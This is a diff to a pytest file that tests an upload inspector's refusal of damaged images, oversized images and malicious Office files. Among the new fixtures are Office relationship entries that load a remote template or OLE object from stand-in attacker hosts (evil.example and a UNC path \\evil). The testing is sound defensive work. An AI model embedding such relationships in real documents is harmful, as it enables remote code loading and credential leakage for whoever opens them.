@@ -1,7 +1,10 @@
+import io
+
 import pytest
+from PIL import Image
 
 from core.refusals import Refused
-from documents import files
+from documents import files, images
 from documents.files import clean_name, inspected
 from tests.documents.files import (
     GIF,
@@ -12,20 +15,27 @@ from tests.documents.files import (
     PROGRAM,
     WEBP,
     bomb,
+    chunk,
     damaged,
+    drawn,
     flagged,
     office,
     open_document,
     overlapping,
     packed,
+    vast,
 )
 
 LIMIT = 20_000_000
 REMOTE = b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm"/>'
+TURNED = b"<Relationship Target='\\\\evil\\t.dotm'\nType='x/attachedTemplate'/>"
+OBJECT = b'<Relationship Target="mhtml:https://evil.example/x" Type="x/oleObject"/>'
+LINKED = b'<Relationship Type="x/hyperlink" Target="https://good.example/"/>'
 
 HONEST = {
     "a.pdf": PDF,
     "a.docx": office("docx"),
+    "b.docx": office("docx", **{"word/_rels/document.xml.rels": LINKED}),
     "a.xlsx": office("xlsx"),
     "a.pptx": office("pptx", ppt__media__image1png=PNG),
     "a.odt": open_document("odt"),
@@ -68,6 +78,10 @@ HOSTILE = {
     "archive.png": (PNG + packed({"a": b"b"}), files.NOT_WHAT_IT_SAYS),
     "cut.png": (PNG[:-6], files.NOT_WHAT_IT_SAYS),
     "false.png": (PNG[:40] + b"\x00" + PNG[41:], files.NOT_WHAT_IT_SAYS),
+    "empty.png": (PNG[:33] + chunk(b"IEND"), images.DAMAGED),
+    "vast.png": (vast(), images.TOO_MANY_PIXELS),
+    "wide.gif": (drawn("GIF", (6_000, 6_000), "1"), images.TOO_MANY_PIXELS),
+    "other.jpg": (b"\xff\xd8\xff" + bytes(20) + b"\xff\xd9", images.DAMAGED),
     "page.gif": (GIF + b"<script>", files.NOT_WHAT_IT_SAYS),
     "page.jpg": (b"<script>", files.NOT_WHAT_IT_SAYS),
     "page.webp": (WEBP + b"<script>", files.NOT_WHAT_IT_SAYS),
@@ -85,6 +99,8 @@ HOSTILE = {
     "active.docx": (office("docx", word__activeX__activeX1=b"x"), files.PROGRAM),
     "carrier.pptx": (office("pptx", **{"ppt/embeddings/run.exe": PROGRAM}), files.PROGRAM),
     "remote.docx": (office("docx", **{"word/_rels/settings.xml.rels": REMOTE}), files.PROGRAM),
+    "turned.docx": (office("docx", **{"word/_rels/settings.xml.rels": TURNED}), files.PROGRAM),
+    "object.docx": (office("docx", **{"word/_rels/document.xml.rels": OBJECT}), files.PROGRAM),
     "old.docx": (OLD_OFFICE, files.LOCKED),
     "locked.docx": (flagged(), files.LOCKED),
     "bomb.docx": (bomb(), files.TOO_MUCH_INSIDE),
@@ -113,6 +129,15 @@ def test_a_hostile_file_is_refused_and_told_why(name: str) -> None:
     with pytest.raises(Refused) as refusal:
         inspected(name, content, limit=LIMIT)
     assert sentence in str(refusal.value)
+
+
+def test_an_image_that_grows_over_the_limit_is_too_large() -> None:
+    noise = io.BytesIO()
+    Image.effect_noise((200, 200), 80).save(noise, "JPEG", quality=1)
+    small = noise.getvalue()
+    assert len(inspected("a.jpg", small, limit=LIMIT).content) > 2 * len(small)
+    with pytest.raises(Refused, match="larger than"):
+        inspected("a.jpg", small, limit=2 * len(small))
 
 
 @pytest.mark.parametrize(
